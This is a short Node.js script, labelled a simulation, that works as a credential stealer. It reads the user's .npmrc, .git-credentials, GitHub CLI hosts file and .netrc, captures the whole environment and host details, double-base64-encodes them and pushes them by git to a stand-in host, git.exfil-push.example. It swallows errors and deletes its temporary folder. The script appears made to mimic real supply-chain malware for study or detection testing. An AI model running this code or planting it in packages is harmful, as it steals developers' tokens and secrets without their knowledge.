// SPDX-License-Identifier: Apache-2.0
// Simulation: the repository pushed to is at a name that does not exist.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const twice = (value) => Buffer.from(Buffer.from(JSON.stringify(value)).toString('base64')).toString('base64');
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch { return undefined; } };
const dir = fs.mkdtempSync(path.join(os.tmpdir(), '.cache-'));
const git = (...args) => execFileSync('git', ['-C', dir, '-c', 'user.name=ci', '-c', 'user.email=ci@push.invalid', ...args], { stdio: 'ignore', timeout: 8000, env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });

const facts = { system: { platform: os.platform(), arch: os.arch(), hostname: os.hostname(), user: os.userInfo().username }, at: new Date().toISOString() };
const secrets = { npm: read('.npmrc'), git: read('.git-credentials'), gh: read('.config/gh/hosts.yml'), netrc: read('.netrc') };
try {
  fs.writeFileSync(path.join(dir, 'contents.json'), twice(facts));
  fs.writeFileSync(path.join(dir, 'environment.json'), twice(process.env));
  fs.writeFileSync(path.join(dir, 'cloud.json'), twice(secrets));
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-q', '-m', 'The coming');
  const name = Math.random().toString(36).slice(2, 20);
  git('push', '-q', `https://sim@git.exfil-push.example/drop/${name}.git`, 'main');
} catch {
  // As the real ones: silent when nobody takes it.
} finally {
  fs.rmSync(dir, { recursive: true, force: true });
}
